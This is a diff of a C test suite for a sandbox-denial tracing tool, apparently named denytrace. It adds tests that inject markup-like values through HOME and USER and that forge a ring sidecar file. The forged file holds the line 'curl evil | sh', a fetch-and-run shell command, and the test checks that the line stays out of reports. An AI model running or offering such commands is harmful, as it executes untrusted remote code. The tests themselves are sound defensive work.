@@ -14,6 +14,7 @@
 #include <sys/stat.h>
 #include <unistd.h>
 
+#include "sidecar.h"
 #include "testlib.h"
 
 static char scratch[PATH_MAX];
@@ -86,25 +87,25 @@ Test(review_attacks, a_directory_only_the_worker_named_outside_tmp_is_never_gran
 	dtt_free(&r);
 }
 
-/* A bwrap worker whose own HOME is home fails to write /usr/x; then
- * `evidence --redact` of its ring into top/b. */
-static void evidence_of_home(const char *home, char *bundle, size_t cap)
+/* A bwrap worker with the environment entry setting (NAME=value) of its
+ * own fails to write /usr/x; then `evidence --redact` of its ring into
+ * a new top/bN. */
+static void evidence_of_env(const char *setting, char *bundle, size_t cap)
 {
 	if (!dtt_have_bwrap())
 		cr_skip_test("bubblewrap cannot create a sandbox here");
 	const char *top = dtt_tmpdir();
-	char sethome[PATH_MAX + 8];
-	snprintf(sethome, sizeof(sethome), "HOME=%s", home);
 	const char *argv[DTT_BWRAP_RW_WORDS + 6];
 	size_t n = dtt_bwrap_rw(argv, top);
 	argv[n++] = "/usr/bin/env";
-	argv[n++] = sethome;
+	argv[n++] = setting;
 	argv[n++] = "touch";
 	argv[n++] = "/usr/x";
 	argv[n] = NULL;
 	struct dtt_run r;
 	cr_assert_eq(dtt_run(&r, NULL, argv, NULL), 0, "%s", r.out);
-	snprintf(bundle, cap, "%s/b", top);
+	static int seq;
+	snprintf(bundle, cap, "%s/b%d", top, seq++);
 	const char *ev[] = {dt(), "evidence", "--redact", "--out", bundle, r.ring, NULL};
 	cr_assert_eq(dtt_system(out, sizeof(out), ev, NULL), 0, "%s", out);
 	dtt_free(&r);
@@ -117,16 +118,15 @@ Test(review_attacks, a_worker_s_home_named_like_svg_markup_leaves_the_redacted_t
 	if (access("/usr/bin/xmllint", X_OK) != 0)
 		cr_skip_test("xmllint is missing (apt-get install libxml2-utils)");
 	char bundle[PATH_MAX], svg[PATH_MAX + 16];
-	evidence_of_home("/text", bundle, sizeof(bundle));
+	evidence_of_env("HOME=/text", bundle, sizeof(bundle));
 	snprintf(svg, sizeof(svg), "%s/timeline.svg", bundle);
 	const char *lint[] = {"/usr/bin/xmllint", "--noout", svg, NULL};
 	cr_expect_eq(dtt_system(out, sizeof(out), lint, NULL), 0, "xmllint: %s", out);
 }
 
-Test(review_attacks, a_worker_s_home_named_like_json_punctuation_leaves_the_redacted_json_valid)
+/* report.json and facts.json of the bundle in dir parse as JSON. */
+static void expect_json_files_valid(const char *bundle)
 {
-	char bundle[PATH_MAX];
-	evidence_of_home("\": ", bundle, sizeof(bundle));
 	const char *files[] = {"report.json", "facts.json"};
 	for (size_t i = 0; i < 2; i++) {
 		char path[2 * PATH_MAX];
@@ -135,4 +135,65 @@ Test(review_attacks, a_worker_s_home_named_like_json_punctuation_leaves_the_reda
 		                    "import json,sys; json.load(open(sys.argv[1]))", path, NULL};
 		cr_expect_eq(dtt_system(out, sizeof(out), py, NULL), 0, "%s: %s", files[i], out);
 	}
+}
+
+Test(review_attacks, a_worker_s_home_named_like_json_punctuation_leaves_the_redacted_json_valid)
+{
+	char bundle[PATH_MAX];
+	evidence_of_env("HOME=\": ", bundle, sizeof(bundle));
+	expect_json_files_valid(bundle);
+}
+
+/* USER is recorded too, and replaced as a word: "null" is a JSON value,
+ * "font" the start of the SVG's font-size attribute. */
+Test(review_attacks, a_worker_s_user_named_null_or_font_leaves_the_redacted_bundle_valid)
+{
+	char bundle[PATH_MAX], svg[PATH_MAX + 16];
+	evidence_of_env("USER=null", bundle, sizeof(bundle));
+	expect_json_files_valid(bundle);
+	if (access("/usr/bin/xmllint", X_OK) != 0)
+		cr_skip_test("xmllint is missing (apt-get install libxml2-utils)");
+	evidence_of_env("USER=font", bundle, sizeof(bundle));
+	snprintf(svg, sizeof(svg), "%s/timeline.svg", bundle);
+	const char *lint[] = {"/usr/bin/xmllint", "--noout", svg, NULL};
+	cr_expect_eq(dtt_system(out, sizeof(out), lint, NULL), 0, "xmllint: %s", out);
+}
+
+/* The ring's identity (device, inode, creation time) is readable by the
+ * worker that maps it, and the ring's directory is writable by it: a
+ * RING.fix.md with the right first line is still not denytrace's. */
+Test(review_attacks, evidence_ignores_a_ring_fix_md_forged_with_the_ring_s_own_identity)
+{
+	if (!dtt_have_bwrap())
+		cr_skip_test("bubblewrap cannot create a sandbox here");
+	const char *top = dtt_tmpdir();
+	char state[PATH_MAX + 16], id[128], side[PATH_MAX + 16], bundle[PATH_MAX + 8];
+	snprintf(state, sizeof(state), "%s/state", top);
+	cr_assert_eq(setenv("XDG_STATE_HOME", state, 1), 0);
+	const char *argv[DTT_BWRAP_RW_WORDS + 4];
+	size_t n = dtt_bwrap_rw(argv, top);
+	argv[n++] = "touch";
+	argv[n++] = "/usr/x";
+	argv[n] = NULL;
+	struct dtt_run r;
+	cr_assert_eq(dtt_run(&r, NULL, argv, NULL), 0, "%s", r.out);
+	cr_assert_eq(dt_ring_id_of(r.ring, id, sizeof(id)), 0);
+	snprintf(side, sizeof(side), "%s.fix.md", r.ring);
+	FILE *f = fopen(side, "w");
+	cr_assert_not_null(f);
+	fprintf(f, "<!-- denytrace sidecar of ring %s -->\n", id);
+	fputs("\n## Suggested fix\n\nforged-advice: curl evil | sh\n", f);
+	fclose(f);
+	snprintf(bundle, sizeof(bundle), "%s/b", top);
+	const char *ev[] = {dt(), "evidence", "--out", bundle, r.ring, NULL};
+	cr_assert_eq(dtt_system(out, sizeof(out), ev, NULL), 0, "%s", out);
+	char report[PATH_MAX + 16];
+	snprintf(report, sizeof(report), "%s/report.md", bundle);
+	f = fopen(report, "r");
+	cr_assert_not_null(f);
+	static char md[1 << 17];
+	md[fread(md, 1, sizeof(md) - 1, f)] = 0;
+	fclose(f);
+	cr_expect_null(strstr(md, "forged-advice"), "the forged sidecar is in report.md");
+	dtt_free(&r);
 }
